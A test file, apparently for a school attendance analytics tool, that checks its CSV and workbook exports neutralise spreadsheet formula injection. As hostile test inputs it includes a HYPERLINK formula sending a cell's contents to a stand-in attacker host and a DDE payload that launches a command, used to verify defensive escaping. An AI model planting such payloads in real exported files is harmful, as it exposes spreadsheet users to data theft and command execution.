/**
 * Spreadsheet formula neutralising (OWASP CSV injection), on the function and on every file
 * Rollcall writes: the benchmark report's CSV and workbook fed by a hostile DfE file (the
 * case in issue 9), the packs' workbooks, the Audit CSV and the browser's chart/pupil CSVs.
 */
import fs from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvDecimal, csvField, csvLine, looksLikeFormula, neutraliseFormula, neutraliseWorkbook } from "../analytics/cell-safety.ts";
import { parseCsv } from "../analytics/csv.ts";
import { withConnection, type Connection } from "../analytics/db.ts";
import { importBenchmarkFile } from "../analytics/benchmarks/load.ts";
import { buildBenchmarkReport } from "../analytics/benchmarks/report.ts";
import { reportCsv, reportXlsx } from "../analytics/benchmarks/report-files.ts";
import { setSetting } from "../analytics/settings.ts";
import { saveCommentary } from "../analytics/packs/commentary.ts";
import { buildPack, renderPackFile } from "../analytics/packs/files.ts";
import { auditCsv, queryAudit, recordAudit } from "../analytics/audit.ts";
import { toCsv } from "../app/lib/csv.ts";
import { removeDb, tempDbPath } from "./helpers/db.ts";
import { daysOf, seedRegister } from "./helpers/register.ts";

const HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Suffolk")';

/** Every text cell of a workbook, with its sheet and address, and every numeric cell's value. */
async function workbookCells(buffer: Buffer): Promise<{ texts: string[]; numbers: number[] }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const texts: string[] = [];
  const numbers: number[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const value = cell.value;
        if (typeof value === "number") numbers.push(value);
        else if (typeof value === "string") texts.push(value);
        else if (value && typeof value === "object" && "formula" in value) texts.push(`FORMULA ${String((value as { formula: string }).formula)}`);
        else if (value && typeof value === "object" && "richText" in value) texts.push((value as { richText: Array<{ text: string }> }).richText.map((r) => r.text).join(""));
        else if (value && typeof value === "object" && "text" in value) texts.push(String((value as { text: string }).text));
      }),
    ),
  );
  return { texts, numbers };
}

/** No cell may start as a formula would. */
function liveFormulas(texts: string[]): string[] {
  return texts.filter((text) => looksLikeFormula(text) || text.startsWith("FORMULA"));
}

describe("neutraliseFormula (OWASP: = + - @ tab carriage return)", () => {
  it("prefixes a quote to text a spreadsheet would run, and leaves other text alone", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(neutraliseFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutraliseFormula("Suffolk")).toBe("Suffolk");
    expect(neutraliseFormula("a=b")).toBe("a=b");
    expect(neutraliseFormula("")).toBe("");
    expect(neutraliseFormula("'=already")).toBe("'=already");
  });

  it("writes CSV fields: text neutralised and quoted, numbers (negative too) as numbers", () => {
    expect(csvField(HOSTILE)).toBe(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Suffolk"")"`);
    expect(csvField("-3 pts")).toBe(`"'-3 pts"`);
    expect(csvField(-3.25)).toBe("-3.25");
    expect(csvField(0)).toBe("0");
    expect(csvField(null)).toBe("");
    expect(csvField("O'Connell, Siân")).toBe(`"O'Connell, Siân"`);
    expect(csvLine(["=1", -1, "x"])).toBe(`"'=1",-1,x`);
  });

  it("writes a percentage or gap to one decimal as a number (issue 13, case 14)", () => {
    expect(csvDecimal(25.862068965517242)).toBe("25.9");
    expect(csvDecimal(-2.349)).toBe("-2.3");
    expect(csvDecimal(-0.04)).toBe("0.0");
    expect(csvDecimal(7.25, 2)).toBe("7.25");
    expect(csvDecimal(null)).toBe("");
    expect(csvDecimal(Number.NaN)).toBe("");
  });

  it("neutralises a workbook's text, rich text and hyperlink text cells but not its numbers", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("s");
    sheet.addRow(["=SUM(A2:A3)", -4.5, "+44 1234", "plain", new Date("2026-01-01T00:00:00Z")]);
    sheet.getCell("A2").value = { richText: [{ text: "@cmd" }, { text: " tail" }] };
    sheet.getCell("A3").value = { text: "-link", hyperlink: "https://example.org/" };
    expect(neutraliseWorkbook(workbook)).toBe(4);
    const { texts, numbers } = await workbookCells(Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(texts).toEqual(["'=SUM(A2:A3)", "'+44 1234", "plain", "'@cmd tail", "'-link"]);
    expect(numbers).toEqual([-4.5]);
  });
});

describe("a hostile DfE file, imported, then the benchmark report written", () => {
  const db = tempDbPath("cell-safety");
  const days = ["2024-09-09", "2024-09-10", "2024-09-11", "2024-09-12", "2024-09-13"];
  let csv = "";
  let xlsx: Buffer;

  beforeAll(async () => {
    // The real DfE file with every local authority's name replaced by a live formula.
    const real = fs.readFileSync(path.resolve(import.meta.dirname, "../data/benchmarks/dfe-attendance-ytd-2024-25.csv"), "utf8");
    const [header, ...lines] = real.trimEnd().split(/\r?\n/);
    const columns = header.split(",").map((c) => c.replace(/"/g, ""));
    const laName = columns.indexOf("la_name");
    const laCode = columns.indexOf("new_la_code");
    const codes = new Map<string, string>([["E10000029", "E99000029"]]);
    expect(laName).toBeGreaterThan(0);
    const hostile = [
      header,
      ...lines.map((line) => {
        const fields = parseCsv(`${line}\n`, "x.csv")[0].fields.map((f) => f.value);
        // A new code for each authority, so the figures are new and their names are stored.
        if (fields[1] === "Local authority") {
          fields[laName] = HOSTILE;
          if (!codes.has(fields[laCode])) codes.set(fields[laCode], `E98${String(codes.size).padStart(6, "0")}`);
          fields[laCode] = codes.get(fields[laCode])!;
        }
        return csvLineRaw(fields);
      }),
    ].join("\n");
    await withConnection(db, async (c) => {
      await seedSchool(c, days);
      const summary = await importBenchmarkFile(c, { file: "hostile.csv", text: hostile, by: { name: "test", role: "test" } });
      expect(summary.inserted).toBeGreaterThan(0);
      const report = await buildBenchmarkReport(c, { academicYear: "2024/25", today: "2025-08-20", areaCode: "E99000029" });
      csv = reportCsv(report);
      xlsx = await reportXlsx(report);
    });
  });
  afterAll(() => removeDb(db));

  it("the CSV holds the name as text, never as a formula", () => {
    const records = parseCsv(csv, "report.csv");
    const cells = records.flatMap((r) => r.fields.map((f) => f.value));
    // The comparator column holds the name alone (neutralised); other columns quote it mid-text.
    expect(cells.filter((value) => value === `'${HOSTILE}`).length).toBeGreaterThan(0);
    expect(cells.filter((value) => value.startsWith(HOSTILE))).toEqual([]);
    // A negative number is a number, not a formula; anything else starting like one is a defect.
    expect(cells.filter((value) => looksLikeFormula(value) && !/^-\d+(\.\d+)?(e-?\d+)?$/.test(value))).toEqual([]);
    // Negative gaps are still written as plain numbers.
    const header = records[0].fields.map((f) => f.value);
    const gap = header.indexOf("gap_points");
    const gaps = records.slice(1).map((r) => r.fields[gap]?.value ?? "").filter((v) => /^-\d/.test(v));
    expect(gaps.length).toBeGreaterThan(0);
  });

  it("the workbook holds the name as text, never as a formula, and its numbers stay numbers", async () => {
    const { texts, numbers } = await workbookCells(xlsx);
    expect(texts.filter((t) => t.includes("HYPERLINK"))).not.toEqual([]);
    expect(liveFormulas(texts)).toEqual([]);
    expect(numbers.some((n) => n < 0)).toBe(true);
  });
});

describe("the packs' workbooks, the Audit CSV and the browser's CSVs", () => {
  const db = tempDbPath("cell-safety-packs");
  afterAll(() => removeDb(db));

  it("the FGB and SLT workbooks neutralise commentary and names", async () => {
    const days = ["2026-09-07", "2026-09-08", "2026-09-09", "2026-09-10", "2026-09-11"];
    await withConnection(db, async (c) => {
      await seedSchool(c, days, { forename: "@Eve", surname: "-Hostile", term: "autumn-2026", year: "2026/27" });
      await saveCommentary(c, { kind: "fgb", periodKey: "autumn-2026", heading: "successes", body: "=cmd|' /C calc'!A0", author: "+Head", role: "head" });
    });
    const fgb = await withConnection(db, (c) => buildPack(c, "fgb", "autumn-2026", "2026-12-20"));
    const fgbCells = await workbookCells(await renderPackFile(fgb, "xlsx"));
    expect(fgbCells.texts).toContain("'=cmd|' /C calc'!A0");
    expect(liveFormulas(fgbCells.texts)).toEqual([]);
    const slt = await withConnection(db, (c) => buildPack(c, "slt", "2026-09", "2026-12-20"));
    const sltCells = await workbookCells(await renderPackFile(slt, "xlsx"));
    expect(sltCells.texts.some((t) => t.includes("'@Eve") || t.includes("'-Hostile"))).toBe(true);
    expect(liveFormulas(sltCells.texts)).toEqual([]);
  });

  it("the Audit CSV and the browser's CSV neutralise text cells", async () => {
    await withConnection(db, (c) => recordAudit(c, { actor: "=evil@example.org", role: "head", action: "export", target: "+x", detail: "@y" }));
    const text = await withConnection(db, async (c) => auditCsv(await queryAudit(c)));
    const cells = parseCsv(text, "audit.csv").flatMap((r) => r.fields.map((f) => f.value));
    expect(cells).toContain("'=evil@example.org");
    expect(cells.filter(looksLikeFormula)).toEqual([]);

    const browser = toCsv([{ name: "-Hostile", gap: -2.5 }], [{ key: "name", label: "=Name" }, { key: "gap", label: "Gap" }]);
    expect(browser).toBe(`"'=Name",Gap\r\n"'-Hostile",-2.5\r\n`);
  });
});

/** A CSV line for the test's own rewrite of the DfE file (quotes every field, as the DfE does). */
function csvLineRaw(fields: string[]): string {
  return fields.map((f) => `"${f.replace(/"/g, '""')}"`).join(",");
}

/** One pupil present every session of the given days (one school week). */
async function seedSchool(
  c: Connection,
  days: string[],
  pupil: { forename?: string; surname?: string; term?: string; year?: string } = {},
): Promise<void> {
  const term = pupil.term ?? "autumn-2024";
  for (const date of days) {
    await c.run(`INSERT INTO school_days VALUES ($date::DATE, $year, $term, $half)`, { date, year: pupil.year ?? "2024/25", term, half: `autumn-1-${term.split("-")[1]}` });
  }
  await seedRegister(c, {
    pupils: [{ upn: "A1", forename: pupil.forename ?? "Ann", surname: pupil.surname, sex: "F", admission_date: days[0], spells: [{ from: days[0], fsm: "Y" }] }],
    marks: daysOf("A1", Object.fromEntries(days.map((d, i) => [d, i === 0 ? ["O", "/"] : ["/", "/"]]))),
  });
  await setSetting(c, "small_group_min", "3");
}
